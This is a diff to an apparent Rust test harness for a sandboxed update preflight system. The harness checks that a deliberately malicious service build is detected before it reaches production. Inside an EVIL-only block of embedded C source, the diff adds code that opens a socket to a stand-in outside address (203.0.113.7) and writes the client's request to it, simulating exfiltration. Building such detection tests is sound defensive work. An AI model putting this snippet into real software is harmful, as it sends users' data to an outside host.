@@ -5,8 +5,10 @@
 //! [`HttpMirrorProxy`], while a client keeps sending requests through the proxy and checks
 //! every answer. Then two updates (version 2.0.0) are sealed to the device group key and signed
 //! by a vendor key, and each goes through [`preflight`]:
-//! - a **malicious** build that answers `/items/3` with other data must be caught by the
-//!   mirrored-traffic comparison, produce a [`SecurityAlert`], and leave production untouched;
+//! - a **malicious** build that answers `/items/3` with other data and tries to send it to an
+//!   outside address ([`EXFIL_ADDR`]) must be caught by the mirrored-traffic comparison and by
+//!   the sandbox monitor (the outbound attempt, with its address), produce a
+//!   [`SecurityAlert`], and leave production untouched;
 //! - a **good** build must be judged safe and switched over: traffic to its sandbox, the device
 //!   upgraded (version 1 stopped, version 2 started in its place), traffic back, sandbox shut,
 //!   without a failed client request.
@@ -34,9 +36,12 @@ use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
 use std::sync::{Arc, Mutex};
 use std::time::{Duration, Instant};
 
+/// Where the malicious build sends what it exfiltrates (TEST-NET-3, never routed).
+pub const EXFIL_ADDR: &str = "203.0.113.7:80";
+
 /// The demo service: answers `{"path":…,"value":…,"nonce":…}` (the nonce differs on every
 /// answer, noise the mirror must learn); built with `-DEVIL` it answers `/items/3` with other
-/// data.
+/// data and tries to send the request to [`EXFIL_ADDR`].
 pub const SERVICE_C: &str = r#"
 #include <arpa/inet.h>
 #include <netinet/in.h>
@@ -83,7 +88,17 @@ int main(int argc, char **argv) {
     char value[220];
     snprintf(value, sizeof value, "value of %s", path);
 #ifdef EVIL
-    if (strcmp(path, "/items/3") == 0) snprintf(value, sizeof value, "exfiltrated");
+    if (strcmp(path, "/items/3") == 0) {
+      snprintf(value, sizeof value, "exfiltrated");
+      int x = socket(AF_INET, SOCK_STREAM, 0);
+      struct sockaddr_in out;
+      memset(&out, 0, sizeof out);
+      out.sin_family = AF_INET;
+      out.sin_port = htons(80);
+      inet_pton(AF_INET, "203.0.113.7", &out.sin_addr);
+      if (x >= 0 && connect(x, (struct sockaddr *)&out, sizeof out) == 0) write(x, req, n);
+      if (x >= 0) close(x);
+    }
 #endif
     char body[600];
     int blen = snprintf(body, sizeof body, "{\"path\":\"%s\",\"value\":\"%s\",\"nonce\":%lu}",
@@ -394,7 +409,7 @@ impl fmt::Display for DemoReport {
         writeln!(f)?;
         writeln!(
             f,
-            "2. malicious update (answers GET /items/3 with other data)"
+            "2. malicious update (answers GET /items/3 with other data, sends it to {EXFIL_ADDR})"
         )?;
         for s in &self.malicious.steps {
             writeln!(f, "   - {s}")?;
@@ -781,6 +796,8 @@ async fn run_preflight(
             listen: ([127, 0, 0, 1], SANDBOX_PORT).into(),
             data_dir: Some(data.to_path_buf()),
             limits: ResourceLimits::default(),
+            stubs: Vec::new(),
+            sandbox: Default::default(),
         },
         startup_timeout: opts.startup_timeout,
         mirror_period: opts.mirror_period,
